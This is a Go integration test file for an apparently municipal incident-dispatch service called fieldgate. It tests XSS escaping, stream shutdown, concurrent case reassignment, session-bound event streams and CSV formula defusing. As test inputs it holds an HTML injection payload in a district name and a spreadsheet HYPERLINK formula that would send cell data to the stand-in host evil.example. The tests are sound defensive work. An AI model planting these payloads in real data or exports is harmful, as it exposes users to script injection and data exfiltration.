package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/oauth2-proxy/mockoidc"

	"github.com/fieldgate/fieldgate/internal/testsvc"
)

// TestConsoleAttack9InBrowser uses the console in headless Chromium as a
// dispatcher whose laptop is set to New York time and as an attacker
// would, against the real fieldgate on PostgreSQL, MinIO and Prosody,
// signed in through the OIDC provider (api/console/web/test/attack9.mjs):
// HTML in a district name of the rules' file and in a report's text stays
// text (map tooltips, list, incident view); times show in the town's zone
// (Europe/Berlin, across both DST changes); every form field has a name
// for screen readers and badges have WCAG AA contrast; a live change of
// the open case keeps the reply being typed; a session ended in another
// tab shows a German banner, keeps the typed reply, and the same button
// works after signing in again; and after a restart of the server, during
// which the stream's reconnects failed with HTTP errors (as behind a
// proxy), a case filed meanwhile appears without a reload.
func TestConsoleAttack9InBrowser(t *testing.T) {
	node, chromium, web := browserTools(t)
	idp, err := mockoidc.Run()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = idp.Shutdown() })
	for range 2 { // signed in, and again after the session ended
		idp.QueueUser(&mockoidc.MockUser{Subject: "dora", Email: "dora@stadt.localhost", PreferredUsername: "dora@stadt.localhost", Groups: []string{"leitstelle"}})
	}
	oc := idp.Config()

	// A district whose name an admin (or whoever edits the file) wrote as HTML.
	const evilDistrict = `Hafen <img src=x id=fgxss>`
	rules, _ := testsvc.DemoRulesWith(t, map[string]string{"sued: [Südstadt, Hafen]": `sued: [Südstadt, "` + evilDistrict + `"]`})
	gj := filepath.Join(filepath.Dir(rules), "districts.geojson")
	b, err := os.ReadFile(gj)
	if err != nil {
		t.Fatal(err)
	}
	b = bytes.Replace(b, []byte(`"Hafen"`), []byte(strconv.Quote(evilDistrict)), 1)
	if err := os.WriteFile(gj, b, 0o644); err != nil {
		t.Fatal(err)
	}

	port := freePort(t)
	base := "http://127.0.0.1:" + strconv.Itoa(port)
	cfgFile := filepath.Join(t.TempDir(), "fieldgate.yaml")
	if err := os.WriteFile(cfgFile, []byte("console:\n  oidc:\n    groups:\n      leitstelle: [dispatcher]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	s := startStack(t, map[string]string{
		"FIELDGATE_CONFIG":                     cfgFile,
		"FIELDGATE_RULES_FILE":                 rules,
		"FIELDGATE_HTTP_ADDR":                  "127.0.0.1:" + strconv.Itoa(port),
		"FIELDGATE_CONSOLE_PUBLIC_URL":         base,
		"FIELDGATE_CONSOLE_OIDC_ISSUER":        oc.Issuer,
		"FIELDGATE_CONSOLE_OIDC_CLIENT_ID":     oc.ClientID,
		"FIELDGATE_CONSOLE_OIDC_CLIENT_SECRET": oc.ClientSecret,
	})
	var out bytes.Buffer
	if err := run(context.Background(), []string{"token", "create", "--name", "kollegin", "--role", "dispatcher"}, s.getenv, &out, testWriter{t}); err != nil {
		t.Fatalf("token create: %v", err)
	}

	browserScript(t, 3*time.Minute, node, web, "attack9.mjs", []string{"FG_BASE=" + base, "FG_REPORTER_TOKEN=" + s.token,
		"FG_DISPATCHER_TOKEN=" + strings.TrimSpace(out.String()), "FG_CHROMIUM=" + chromium, "FG_DISTRICT=" + evilDistrict},
		[]string{"signed-in", "xss", "time-zone", "labels", "keyboard", "slow-network", "live-keeps-input", "expired", "relogin", "restart", "resynced", "bulk-failure", "english", "unreachable", "done"},
		func(name string, _ map[string]any) string {
			if name != "restart" {
				return ""
			}
			// The script blocked the stream; restart the server under it.
			s.stop()
			s.serve()
			s.waitReady()
			return "restarted"
		})
}

// A server a console is open on stops at once and cleanly: its event
// stream ends when the shutdown begins (before, Shutdown waited for the
// stream to go idle, which it never does, and serve failed with "context
// deadline exceeded" after 15 s on every stop and restart).
func TestServeStopsWithAnOpenEventStream(t *testing.T) {
	if testing.Short() {
		t.Skip("integration test")
	}
	s := startStack(t, nil)
	var out bytes.Buffer
	if err := run(context.Background(), []string{"token", "create", "--name", "wand", "--role", "dispatcher"}, s.getenv, &out, testWriter{t}); err != nil {
		t.Fatalf("token create: %v", err)
	}
	req, _ := http.NewRequest("GET", s.base+"/api/v1/events", nil)
	req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(out.String()))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /api/v1/events: %d", resp.StatusCode)
	}
	ended := make(chan error, 1)
	go func() { _, err := io.Copy(io.Discard, resp.Body); ended <- err }()
	start := time.Now()
	s.stop() // fails the test if serve returns an error
	if took := time.Since(start); took > 5*time.Second {
		t.Errorf("serve took %v to stop with an event stream open, want < 5 s", took)
	}
	select {
	case <-ended:
	case <-time.After(5 * time.Second):
		t.Error("the event stream is still open after the server stopped")
	}
}

// Two dispatchers reassign the same case at the same instant, each to
// another team, each naming the team they saw (from_team, as the console
// sends it): one wins, the other gets 409 and a German message that names
// where the case is now; the case ends where the winner sent it. Raced on
// purpose, several times.
func TestTwoDispatchersReassignAtOnce(t *testing.T) {
	if testing.Short() {
		t.Skip("integration test")
	}
	s := startStack(t, nil)
	tokens := []string{s.newToken("disp-a", "dispatcher"), s.newToken("disp-b", "dispatcher")}
	targets := []string{"gruenflaechen", "ordnungsamt"}
	names := map[string]string{"gruenflaechen": "Grünflächen", "ordnungsamt": "Ordnungsamt"}
	for round := range 4 {
		c := s.fileReport(round, "Ast auf der Fahrbahn")
		deadline := time.Now().Add(20 * time.Second)
		for {
			if _, inc := s.call("GET", "/api/v1/incidents/"+c, tokens[0]); inc["team"] == "tiefbau" {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s never reached team tiefbau", c)
			}
			time.Sleep(50 * time.Millisecond)
		}
		type answer struct {
			status int
			body   map[string]any
		}
		answers := make([]answer, 2)
		start := make(chan struct{})
		done := make(chan int, 2)
		for i := range 2 {
			go func() {
				defer func() { done <- i }()
				b, _ := json.Marshal(map[string]string{"team": targets[i], "from_team": "tiefbau", "reason": "Zuständigkeit"})
				req, _ := http.NewRequest("POST", s.base+"/api/v1/incidents/"+c+"/reassign", bytes.NewReader(b))
				req.Header.Set("Authorization", "Bearer "+tokens[i])
				req.Header.Set("Content-Type", "application/json")
				req.Header.Set("Accept-Language", "de")
				<-start
				resp, err := http.DefaultClient.Do(req)
				if err != nil {
					t.Error(err)
					return
				}
				defer resp.Body.Close()
				answers[i].status = resp.StatusCode
				_ = json.NewDecoder(resp.Body).Decode(&answers[i].body)
			}()
		}
		close(start)
		<-done
		<-done
		win, lose := 0, 1
		if answers[1].status == http.StatusOK {
			win, lose = 1, 0
		}
		if answers[win].status != http.StatusOK || answers[lose].status != http.StatusConflict {
			t.Fatalf("round %d: answers %d and %d (%v / %v), want one 200 and one 409", round, answers[0].status, answers[1].status, answers[0].body, answers[1].body)
		}
		detail, _ := answers[lose].body["detail"].(string)
		if !strings.Contains(detail, "inzwischen bei "+names[targets[win]]) {
			t.Errorf("round %d: the loser's message %q does not say where the case is now (%s)", round, detail, names[targets[win]])
		}
		if _, inc := s.call("GET", "/api/v1/incidents/"+c, tokens[0]); inc["team"] != targets[win] {
			t.Errorf("round %d: %s is with %v, want the winner's %s", round, c, inc["team"], targets[win])
		}
	}
}

// A console's live stream ends with its session: after logout (in another
// tab, or anywhere) the stream delivers no further incident, and a
// revoked token's stream ends too (before, both went on until the browser
// closed, a signed-out laptop kept receiving every team's cases).
func TestEventStreamEndsWithTheSession(t *testing.T) {
	if testing.Short() {
		t.Skip("integration test")
	}
	s := startStack(t, nil)
	disp := s.newToken("leitstand", "dispatcher")
	jar, _ := cookiejar.New(nil)
	cl := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := cl.PostForm(s.base+"/console/auth/token", url.Values{"token": {disp}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	resp, err = cl.Get(s.base + "/console/session")
	if err != nil {
		t.Fatal(err)
	}
	var sess struct {
		SignedIn bool   `json:"signed_in"`
		CSRF     string `json:"csrf"`
	}
	_ = json.NewDecoder(resp.Body).Decode(&sess)
	resp.Body.Close()
	if !sess.SignedIn {
		t.Fatal("token sign-in failed")
	}
	// stream opens GET /api/v1/events and sends each incident event's data line.
	stream := func(c *http.Client, token string) <-chan string {
		req, _ := http.NewRequest("GET", s.base+"/api/v1/events", nil)
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		r, err := c.Do(req)
		if err != nil || r.StatusCode != http.StatusOK {
			t.Fatalf("GET /api/v1/events: %v %v", r, err)
		}
		lines := make(chan string, 16)
		go func() {
			defer close(lines)
			defer r.Body.Close()
			sc := bufio.NewScanner(r.Body)
			for sc.Scan() {
				if strings.HasPrefix(sc.Text(), "data:") {
					lines <- sc.Text()
				}
			}
		}()
		return lines
	}
	// ended waits until the stream closes, failing if it carries case c.
	ended := func(what string, lines <-chan string, c string) {
		t.Helper()
		timeout := time.After(10 * time.Second)
		for {
			select {
			case l, open := <-lines:
				if !open {
					return
				}
				if strings.Contains(l, c) {
					t.Errorf("%s: the stream still delivered %s", what, c)
				}
			case <-timeout:
				t.Errorf("%s: the stream is still open after 10 s", what)
				return
			}
		}
	}
	live := stream(cl, "")
	first := s.fileReport(0, "vor der Abmeldung")
	for l := range live {
		if strings.Contains(l, first) {
			break
		}
	}
	req, _ := http.NewRequest("POST", s.base+"/console/auth/logout", nil)
	req.Header.Set("X-CSRF-Token", sess.CSRF)
	resp, err = cl.Do(req)
	if err != nil || resp.StatusCode != http.StatusNoContent {
		t.Fatalf("logout: %v %v", resp, err)
	}
	resp.Body.Close()
	time.Sleep(6 * time.Second) // past one recheck
	ended("after logout", live, s.fileReport(1, "nach der Abmeldung"))

	revoked := s.newToken("kiosk", "dispatcher")
	lines := stream(http.DefaultClient, revoked)
	var out bytes.Buffer
	if err := run(context.Background(), []string{"token", "revoke", "--name", "kiosk"}, s.getenv, &out, testWriter{t}); err != nil {
		t.Fatalf("token revoke: %v", err)
	}
	time.Sleep(6 * time.Second)
	ended("after revoking the token", lines, s.fileReport(2, "nach dem Widerruf"))
}

// The numbers' CSV export (GET /api/v1/stats?format=csv, the console's
// „CSV exportieren“) does not hand a spreadsheet a formula: a district
// name from the rules' file that starts with "=" is written as text.
func TestStatsCSVDefusesFormulas(t *testing.T) {
	if testing.Short() {
		t.Skip("integration test")
	}
	const evil = `=HYPERLINK("http://evil.example/?d="&A1,"Nordstadt")`
	rules, _ := testsvc.DemoRulesWith(t, map[string]string{"nord: [Nordstadt,": `nord: ['` + evil + `',`})
	gj := filepath.Join(filepath.Dir(rules), "districts.geojson")
	b, err := os.ReadFile(gj)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(gj, bytes.Replace(b, []byte(`"Nordstadt"`), []byte(strconv.Quote(evil)), 1), 0o644); err != nil {
		t.Fatal(err)
	}
	s := startStack(t, map[string]string{"FIELDGATE_RULES_FILE": rules})
	disp := s.newToken("zahlen", "dispatcher")
	body, ct := form(t, map[string]string{"to": "tiefbau", "text": "Schlagloch", "lat": "51.0412", "lon": "7.5790"}, nil)
	if resp, rec := s.post(s.token, body, ct); resp.StatusCode != http.StatusAccepted {
		t.Fatalf("POST: %s %v", resp.Status, rec)
	}
	var rows [][]string
	deadline := time.Now().Add(20 * time.Second)
	for {
		req, _ := http.NewRequest("GET", s.base+"/api/v1/stats?by=district&format=csv", nil)
		req.Header.Set("Authorization", "Bearer "+disp)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(resp.Body)
		r.FieldsPerRecord = -1
		rows, err = r.ReadAll()
		resp.Body.Close()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) > 1 && len(rows[1]) > 1 && rows[1][0] != "" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no district row in the CSV after 20 s: %v", rows)
		}
		time.Sleep(100 * time.Millisecond)
	}
	if rows[1][0] != "'"+evil {
		t.Errorf("district cell %q, want the name as text: %q", rows[1][0], "'"+evil)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("CSV cell %q starts a formula", cell)
			}
		}
	}
}
